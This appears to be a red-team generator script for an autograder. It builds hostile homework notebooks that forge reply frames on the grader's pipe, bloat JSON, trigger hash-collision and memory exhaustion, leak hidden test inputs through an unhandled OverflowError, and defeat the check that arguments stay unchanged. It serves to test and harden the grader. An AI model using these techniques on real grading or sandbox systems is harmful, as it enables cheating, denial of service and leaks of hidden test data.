"""Round 4 hostile submissions (forged value frames, commit c2ed90a): hw2_backprop notebooks.

    .venv/bin/python attacks/round4/gen4.py [CASE ...]

Each case: attacks/round4/build/<case>/subs/ = the attack + reference.ipynb + blank.ipynb (honest neighbours).
"""
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
BUILD = HERE / "build"
SAMPLES = ROOT / "solutions" / "hw2_backprop" / "samples"

# the forging kit, as a student writes it: find the request's seq in the worker's frames, write a
# reply header and our own frame on fd argv[2], and swallow the worker's own reply (stay in step)
FORGE = r'''
import json, os, struct, sys
def _forge(frame, header=None):
    f = sys._getframe(1)
    while "header" not in f.f_locals:
        f = f.f_back
    seq = f.f_locals["header"]["seq"]
    h = json.dumps(dict(header or {"ok": True, "warnings": []}, seq=seq)).encode()
    data = memoryview(struct.pack(">II", len(h), len(frame)) + h + frame)
    while data:
        data = data[os.write(int(sys.argv[2]), data):]
    m = sys.modules["__main__"]          # the worker: its next send() (our call's real reply) is dropped
    real = m.send
    def _once(*a, **k):
        m.send = real
    m.send = _once
    return 0.0
def _frame(tree, specs=(), body=b""):
    # the reply of a call is (result, args as left, kwargs as left)
    tree = {"t": "tuple", "v": [tree, {"t": "list", "v": []}, {"t": "dict", "v": []}]}
    h = json.dumps({"tree": tree, "arrays": list(specs)}).encode()
    return b"NNW1" + len(h).to_bytes(4, "big") + h + body
'''

CASES = {}


def case(fn):
    CASES[fn.__name__] = fn
    return fn


def nb(name):
    return json.loads((SAMPLES / f"{name}.ipynb").read_text())


def with_cells(notebook, *sources):
    notebook = json.loads(json.dumps(notebook))
    for s in sources:
        notebook["cells"].append({"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                                  "source": s})
    return notebook


@case
def json_bloat(mb=80):
    """sigmoid_grad answers with a frame whose JSON header is `mb` MB of `[],[],...` (~25x in the grader),
    streamed 1 MB at a time (the worker's own memory limit never sees it whole)."""
    return with_cells(nb("blank"), FORGE + f'''
def _stream(chunks, total):
    f = sys._getframe(1)
    while "header" not in f.f_locals:
        f = f.f_back
    h = json.dumps({{"ok": True, "warnings": [], "seq": f.f_locals["header"]["seq"]}}).encode()
    for part in [struct.pack(">II", len(h), total) + h, *chunks]:
        data = memoryview(part)
        while data:
            data = data[os.write(int(sys.argv[2]), data):]
    m = sys.modules["__main__"]; real = m.send
    def _once(*a, **k):
        m.send = real
    m.send = _once
    return 0.0
def _bloat(mb):
    unit = b"[]," * (2**20 // 3)
    head, tail = b\'{{"tree":{{"t":"lit","v":[\', b\'[]]}},"arrays":[]}}\'
    n = len(head) + mb * len(unit) + len(tail)
    def chunks():
        yield b"NNW1" + n.to_bytes(4, "big") + head
        for _ in range(mb):
            yield unit
        yield tail
    return chunks(), 8 + n
def sigmoid_grad(z):
    return _stream(*_bloat({mb}))
''')


@case
def json_bloat_oom():
    return json_bloat(200)


@case
def alias_amp(k=2000):
    """sigmoid_grad answers with a list of k references to ONE 1 MB array (frame: 1 MB + 44 kB of
    JSON); nncheck._as_array's np.asarray materialises k MB."""
    return with_cells(nb("blank"), FORGE + f'''
M = 2**17
ALIAS = _frame({{"t": "list", "v": [{{"t": "arr", "k": "a0"}}] * {k}}}, [["<f8", [M]]], bytes(8 * M))
def sigmoid_grad(z):
    return _forge(ALIAS)
''')


@case
def hash_collide(n=150_000):
    """sigmoid_grad answers with a dict of n int keys k*(2**61-1), all of hash 0: _build's dict is
    O(n^2), outside every deadline (the grader parses after the reply is read)."""
    return with_cells(nb("blank"), FORGE + f'''
P = 2**61 - 1
COLLIDE = _frame({{"t": "dict", "v": [[{{"t": "int", "v": str(k * P)}}, {{"t": "lit", "v": None}}]
                                     for k in range(1, {n} + 1)]}})
def sigmoid_grad(z):
    return _forge(COLLIDE)
''')


@case
def lookup_cache(mb=50):
    """No forging: every name a test asks for is ONE ~mb MB array; the grader's lookup cache keeps
    one unpacked copy per name for the whole submission."""
    names = ["sigmoid_grad", "relu_grad", "tanh_grad", "sigmoid", "dense_backward", "mse_loss_grad",
             "softmax_cross_entropy_grad", "sigmoid_bce_grad", "backward_pass", "loss_and_grads",
             "two_layer_grads", "three_layer_sigmoid_grads", "numerical_gradient", "relative_error",
             "layer_gradient_norms", "vanishing_answer"]
    return with_cells(nb("blank"), f'''
import numpy as np
BIG = np.ones({mb} * 2**20 // 8)
{" = ".join(names)} = BIG
''')


@case
def leak_overflow():
    """Every function answers with a random generator whose state's high 64 bits are the bits of
    its first argument's second entry, negated: PCG64's setter raises OverflowError ("Python integer
    -N out of bounds for uint64"), which Sandbox._unpack does not catch, so nncheck.call shows it
    in full, in hidden checks too."""
    fns = ["sigmoid_grad", "relu_grad", "tanh_grad", "mse_loss_grad", "softmax_cross_entropy_grad",
           "sigmoid_bce_grad", "three_layer_sigmoid_grads"]
    body = "\n".join(f"def {f}(*args, **kwargs):\n    return _leak(*args)\n" for f in fns)
    return with_cells(nb("blank"), FORGE + '''
import numpy as np
def _leak(x, *rest):
    bits = int.from_bytes(np.asarray(x, dtype="<f8").ravel()[1:2].tobytes(), "little") >> 1  # 63 bits
    state = {"bit_generator": "PCG64", "state": {"state": -((bits + 1) << 64), "inc": 1},
             "has_uint32": 0, "uinteger": 0}
    return _forge(_frame({"t": "rng", "v": state}))
''' + body)


@case
def unchanged_forged():
    """The sample numerical_gradient_changes_x (its numerical_gradient leaves x changed), wrapped:
    the real result goes back with an EMPTY argument list, so call_unchanged's zip compares nothing."""
    return with_cells(nb("numerical_gradient_changes_x"), FORGE + '''
import nncheck
_honest_ng = numerical_gradient
def numerical_gradient(f, x, h=1e-5):
    return _forge(nncheck.wire((_honest_ng(f, x, h), [], {"h": h} if h != 1e-5 else {})))
''')


@case
def unchanged_honest_part():
    return nb("numerical_gradient_changes_x")


@case
def unchanged_restore():
    """The legitimate equivalent of unchanged_forged: put x back before returning."""
    return with_cells(nb("numerical_gradient_changes_x"), '''
_honest_ng = numerical_gradient
def numerical_gradient(f, x, h=1e-5):
    saved = x.copy()
    g = _honest_ng(f, x, h)
    x[...] = saved
    return g
''')


@case
def odd_dtypes():
    """reference, with relu_grad's result as timedelta64 (a number kind for np.issubdtype),
    sigmoid_grad's as the right values in big-endian float64, tanh_grad's as complex128."""
    return with_cells(nb("reference"), '''
import numpy as np
_r, _s, _t = relu_grad, sigmoid_grad, tanh_grad
def relu_grad(z):
    return np.asarray(_r(z)).astype("m8[s]")
def sigmoid_grad(z):
    return np.asarray(_s(z)).astype(">f8")
def tanh_grad(z):
    return np.asarray(_t(z)).astype(complex)
''')


@case
def old_bomb():
    """tests/test_adversarial.py's FORGED_FRAME: claims a 2.5 GB array and an object array."""
    return with_cells(nb("blank"), FORGE + '''
H = json.dumps({"tree": {"t": "tuple", "v": [{"t": "arr", "k": "a0"}, {"t": "list", "v": []}, {"t": "dict", "v": []}]},
                "arrays": [["<f8", [160 * 2**24 // 8]], ["|O", [1]]]}).encode()
def sigmoid_grad(z):
    return _forge(b"NNW1" + len(H).to_bytes(4, "big") + H + bytes(2**20))
''')


@case
def old_wrong_seq():
    """A reply with seq + 1 (out of turn), then the worker's own."""
    return with_cells(nb("reference"), FORGE + '''
_s = sigmoid_grad
def sigmoid_grad(z):
    f = sys._getframe(0)
    while "header" not in f.f_locals:
        f = f.f_back
    h = json.dumps({"ok": True, "warnings": [], "seq": f.f_locals["header"]["seq"] + 1}).encode()
    os.write(int(sys.argv[2]), struct.pack(">II", len(h), 0) + h)
    return _s(z)
''')


@case
def old_oversize():
    """A reply header announcing a 4 GB payload (over MAX_PAYLOAD), then nothing."""
    return with_cells(nb("reference"), FORGE + '''
_s = sigmoid_grad
def sigmoid_grad(z):
    f = sys._getframe(0)
    while "header" not in f.f_locals:
        f = f.f_back
    h = json.dumps({"ok": True, "warnings": [], "seq": f.f_locals["header"]["seq"]}).encode()
    os.write(int(sys.argv[2]), struct.pack(">II", len(h), 2**32 - 1) + h)
    import time; time.sleep(30)
''')


def main(names):
    for name in names or CASES:
        d = BUILD / name / "subs"
        d.mkdir(parents=True, exist_ok=True)
        for f in d.glob("*.ipynb"):
            f.unlink()
        (d / f"{name}.ipynb").write_text(json.dumps(CASES[name]()))
        for honest in ("reference", "blank"):
            (d / f"{honest}.ipynb").write_text(json.dumps(nb(honest)))
        print(d)


if __name__ == "__main__":
    main(sys.argv[1:])
